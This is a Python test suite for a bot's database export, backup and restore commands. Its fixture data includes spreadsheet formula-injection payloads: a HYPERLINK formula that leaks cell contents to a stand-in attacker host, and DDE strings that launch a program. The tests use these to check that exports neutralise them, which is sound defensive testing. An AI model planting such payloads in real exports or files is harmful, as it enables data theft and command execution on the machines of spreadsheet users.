"""The operator's data path as its users meet it: `npo-bot db export` opened in a spreadsheet or a JSON reader,
an export that fails or names the wrong file, `npo-bot db backup` while the bot writes, and the restore."""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from storage_testing import RELAXED_POLICY_TEXT, make_prediction, surface

from bot.db_cli import add_db_parser, run_db
from npo.loop import LoopConfig, record_feedback
from npo.policy import Policy, parse_policy
from npo.types import FeedbackEvent, FeedbackKind
from storage import SQLiteStore, connect, migrate

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent

# Free text an engineer may type as an Override reason (the modal's "other" field) or an alert may carry.
REASONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
    "inner\rcarriage return",
    'two\nlines, a comma and "quotes"',
    "naïve ☃ 日本語 \u2028 line separator \u2029 paragraph \x85 next line",
    "plain",
]


def _run(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="npo-bot")
    add_db_parser(parser.add_subparsers(dest="command", required=True))
    return run_db(parser.parse_args(argv))


@pytest.fixture
def awkward(db_path: Path, relaxed_policy: Policy) -> Path:
    """A database whose reasons and one target are the awkward texts above (the target starts with '=')."""
    with SQLiteStore(db_path) as store:
        predictions = [
            make_prediction(i, target="=cmd|' /C calc'!A0" if i == 0 else f"r{i}-n{i}") for i in range(len(REASONS))
        ]
        surface(store, predictions, relaxed_policy)
        for i, reason in enumerate(REASONS):
            event = FeedbackEvent(f"p{i}", "alice", FeedbackKind.OVERRIDE, 5.0 + i / 3, f"r{i}", reason=reason)
            with store.transaction() as tx:
                record_feedback(tx, event, config=store.config)
    return db_path


def _stored(path: Path, sql: str) -> list[tuple[object, ...]]:
    conn = sqlite3.connect(str(path))
    try:
        return conn.execute(sql).fetchall()
    finally:
        conn.close()


def _csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_csv_cells_are_not_formulas_and_rows_stay_rows(awkward: Path, tmp_path: Path) -> None:
    out = tmp_path / "feedback.csv"
    assert _run(["db", "export", "--db", str(awkward), "--what", "feedback", "--format", "csv", "--out", str(out)]) == 0
    header, *rows = _csv(out)
    assert header[:7] == ["id", "request_id", "prediction_id", "operator", "kind", "at", "reason"]
    stored = _stored(awkward, "SELECT id, reason, at, weight, key_n_before FROM feedback ORDER BY id")
    assert len(rows) == len(stored) == len(REASONS)  # a carriage return no longer splits a row in two
    for row, (feedback_id, reason, at, weight, key_n_before) in zip(rows, stored, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert cells["id"] == str(feedback_id)
        expected = "'" + reason if reason[0] in "=+-@\t\r" else reason
        assert cells["reason"] == expected  # a spreadsheet shows the text instead of running it
        assert (float(cells["at"]), float(cells["weight"]), float(cells["key_n_before"])) == (at, weight, key_n_before)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    decisions = tmp_path / "decisions.csv"
    assert (
        _run(["db", "export", "--db", str(awkward), "--what", "decisions", "--format", "csv", "--out", str(decisions)])
        == 0
    )
    header, *rows = _csv(decisions)
    assert rows[0][header.index("target")] == "'=cmd|' /C calc'!A0"
    assert {r[header.index("score")] for r in rows} == {"0.99"}  # numbers are never quoted or prefixed


def test_csv_of_an_empty_database_has_its_header(tmp_path: Path) -> None:
    db = tmp_path / "empty.db"
    assert _run(["db", "migrate", "--db", str(db)]) == 0
    for what, first in (("feedback", "id"), ("decisions", "prediction_id"), ("audit", "id")):
        out = tmp_path / f"{what}.csv"
        assert _run(["db", "export", "--db", str(db), "--what", what, "--format", "csv", "--out", str(out)]) == 0
        rows = _csv(out)
        assert len(rows) == 1 and rows[0][0] == first


def test_jsonl_lines_are_records_for_any_line_reader(awkward: Path, tmp_path: Path) -> None:
    out = tmp_path / "feedback.jsonl"
    assert _run(["db", "export", "--db", str(awkward), "--what", "feedback", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    lines = text.splitlines()  # also splits at U+2028, U+2029 and U+0085, as some editors and readers do
    assert len(lines) == len(REASONS)
    rows = [json.loads(line) for line in lines]
    assert [r["reason"] for r in rows] == REASONS  # the exact text, unicode included
    assert "日本語" in text  # not \u-escaped
    assert all(list(r) == list(rows[0]) for r in rows)


def test_export_to_stdout_is_utf8_whatever_the_locale(awkward: Path) -> None:
    env = {**os.environ, "PYTHONIOENCODING": "ascii", "PYTHONPATH": str(ROOT)}
    for fmt in ("jsonl", "csv"):
        proc = subprocess.run(
            [
                sys.executable,
                "-m",
                "bot.cli",
                "db",
                "export",
                "--db",
                str(awkward),
                "--what",
                "feedback",
                "--format",
                fmt,
            ],
            capture_output=True,
            env=env,
            check=False,
            timeout=60,
        )
        assert proc.returncode == 0, proc.stderr.decode()
        text = proc.stdout.decode("utf-8")
        assert "naïve ☃ 日本語" in text and b"Traceback" not in proc.stderr
        if fmt == "csv":
            assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(REASONS) + 1


def _refused(argv: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    assert _run(argv) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.startswith(f"npo-bot db {argv[1]}: ") and err.count("\n") == 1
    return err


def test_export_never_writes_over_the_database(awkward: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`--out npo.db` for `--db npo.db` (one flag for the other) emptied the database."""
    before = _stored(awkward, "SELECT COUNT(*) FROM feedback")
    aliases = [awkward, Path(os.path.relpath(awkward)), awkward.parent / "." / awkward.name, Path(f"{awkward}-wal")]
    link = awkward.parent / "link.db"
    link.symlink_to(awkward)
    for out in [*aliases, link]:
        err = _refused(["db", "export", "--db", str(awkward), "--what", "feedback", "--out", str(out)], capsys)
        assert "is the" in err and "database" in err
    assert _stored(awkward, "SELECT COUNT(*) FROM feedback") == before
    assert _run(["db", "check", "--db", str(awkward)]) == 0


def test_export_through_a_link_to_the_database_never_writes_its_journal(
    awkward: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--db link.db`` (a link to ``npo.db``) with ``--out npo.db-journal`` was written: SQLite names the journal
    after the file the link leads to, so it took the export for a hot journal, and ``db check`` and ``db export``
    could no longer open the database ("attempt to write a readonly database")."""
    link = awkward.parent / "link.db"
    link.symlink_to(awkward.name)
    for suffix in ("-journal", "-wal", "-shm"):
        out = Path(f"{awkward}{suffix}")
        out.unlink(missing_ok=True)  # the bot stopped: only the database file is there
        err = _refused(["db", "export", "--db", str(link), "--what", "feedback", "--out", str(out)], capsys)
        assert f"is the {suffix[1:]} file of the database {link}" in err
        assert not out.exists()
    assert _run(["db", "check", "--db", str(awkward)]) == 0


def test_a_failed_export_leaves_the_output_file_as_it_was(
    awkward: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    previous = tmp_path / "last-week.csv"
    previous.write_text("yesterday's export\n", encoding="utf-8")
    notes = tmp_path / "notes.db"
    notes.write_text("these are notes, not a database\n" * 100, encoding="utf-8")
    old = tmp_path / "old.db"
    db = connect(old)
    migrate(db, stop_before="m003_append_only_logs")
    db.close()
    for source, message in ((notes, "not a database"), (old, "schema version 2, latest is")):
        for out in (previous, tmp_path / "new.csv"):
            argv = ["db", "export", "--db", str(source), "--what", "decisions", "--format", "csv", "--out", str(out)]
            assert message in _refused(argv, capsys)
    assert previous.read_text(encoding="utf-8") == "yesterday's export\n"  # it was truncated
    assert not (tmp_path / "new.csv").exists()  # an empty file was left
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
    # a complete export replaces the file, keeping its permissions
    previous.chmod(0o600)
    assert _run(["db", "export", "--db", str(awkward), "--what", "feedback", "--out", str(previous)]) == 0
    assert len(previous.read_text(encoding="utf-8").splitlines()) == len(REASONS)
    assert previous.stat().st_mode & 0o777 == 0o600
    capsys.readouterr()
    # unusable output paths: one line naming the path
    assert "is a folder" in _refused(
        ["db", "export", "--db", str(awkward), "--what", "audit", "--out", str(tmp_path)], capsys
    )
    missing = tmp_path / "no" / "x.csv"
    assert "does not exist" in _refused(
        ["db", "export", "--db", str(awkward), "--what", "audit", "--out", str(missing)], capsys
    )


def test_backup_refusals_name_the_backup_file(
    awkward: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "is a folder" in _refused(["db", "backup", str(tmp_path), "--db", str(awkward)], capsys)
    if Path("/proc/self").is_dir():  # a place SQLite cannot create a file in, even for root
        err = _refused(["db", "backup", "/proc/npo-backup.db", "--db", str(awkward)], capsys)
        assert err.startswith("npo-bot db backup: backup '/proc/npo-backup.db': cannot create the backup file")


WRITER = """
import sys
from npo.loop import LoopConfig, record_feedback
from npo.types import FeedbackEvent, FeedbackKind
from storage import SQLiteStore
store = SQLiteStore(sys.argv[1], LoopConfig())
i = 0
while True:  # a click a commit, as fast as it goes, until killed
    event = FeedbackEvent(f"p{i % 50}", f"op{i // 50}", FeedbackKind.LIKE, 100.0 + i, f"live-{i}")
    with store.transaction() as tx:
        record_feedback(tx, event, config=store.config)
    if i < 200:  # the first ones only: a full pipe would stop the writer
        print(event.request_id, flush=True)
    i += 1
"""


def test_backup_while_another_process_writes_is_consistent_and_restores(db_path: Path, tmp_path: Path) -> None:
    """The copy used to go in steps of 1,024 pages, and every commit by another connection restarted it: a file of
    more than one step under a steady stream of clicks was never backed up (the command ran forever)."""
    policy = parse_policy(RELAXED_POLICY_TEXT)
    with SQLiteStore(db_path, LoopConfig()) as store:
        surface(store, [make_prediction(i) for i in range(50)], policy)
        with store.transaction() as tx:  # 40 MB: ~ten of the old steps (audit lines of 1 MB each)
            for k in range(40):
                tx.audit("note", f"padding-{k}", {"text": "x" * 1_000_000}, 1000.0 + k)
    assert db_path.stat().st_size > 8 * 1024 * 4096
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    writer = subprocess.Popen(
        [sys.executable, "-c", WRITER, str(db_path)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env
    )
    copy = tmp_path / "backups" / "npo-copy.db"
    copy.parent.mkdir()
    assert writer.stdout is not None
    try:
        committed = [writer.stdout.readline().strip() for _ in range(200)]  # clicks committed before the backup
        count = "SELECT COUNT(*) FROM feedback"
        before = _stored(db_path, count)[0][0]
        proc = subprocess.run(
            [sys.executable, "-m", "bot.cli", "db", "backup", str(copy), "--db", str(db_path)],
            capture_output=True,
            text=True,
            env=env,
            timeout=30,  # a second or two; it used to run until killed
            check=False,
        )
        assert _stored(db_path, count)[0][0] > before  # the writer committed while the copy was made
        assert writer.poll() is None, writer.stderr.read() if writer.stderr else ""
    finally:
        writer.kill()
        writer.communicate(timeout=30)
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in copy.parent.iterdir()) == ["npo-copy.db"]  # one self-contained file
    assert _stored(copy, "PRAGMA integrity_check") == [("ok",)]
    assert _run(["db", "check", "--db", str(copy)]) == 0
    in_copy = {r[0] for r in _stored(copy, "SELECT request_id FROM feedback")}
    assert set(committed) <= in_copy

    # Restore as documented: the bot stopped, the file replaced, its -wal and -shm deleted.
    shutil.copyfile(copy, db_path)
    for suffix in ("-wal", "-shm"):
        Path(f"{db_path}{suffix}").unlink(missing_ok=True)
    with SQLiteStore(db_path, LoopConfig()) as store, store.transaction() as tx:
        record_feedback(tx, FeedbackEvent("p0", "bob", FeedbackKind.LIKE, 9e5, "after-restore"), config=store.config)
    assert _run(["db", "check", "--db", str(db_path)]) == 0
    assert {r[0] for r in _stored(db_path, "SELECT request_id FROM feedback")} == in_copy | {"after-restore"}


def test_export_to_a_reader_that_stops_early_ends_quietly(db_path: Path, relaxed_policy: Policy) -> None:
    with SQLiteStore(db_path) as store:
        surface(store, [make_prediction(i) for i in range(2000)], relaxed_policy)  # > a pipe's 64 KiB buffer
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "bot.cli", "db", "export", "--db", str(db_path), "--what", "decisions"]
    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    assert proc.stdout is not None and proc.stderr is not None
    first = proc.stdout.readline()  # `npo-bot db export … | head -1`
    proc.stdout.close()
    assert proc.wait(timeout=60) == 141  # 128 + SIGPIPE, as cat or git report it
    with proc.stderr:
        assert json.loads(first)["prediction_id"] and proc.stderr.read() == b""  # no "Broken pipe", no traceback
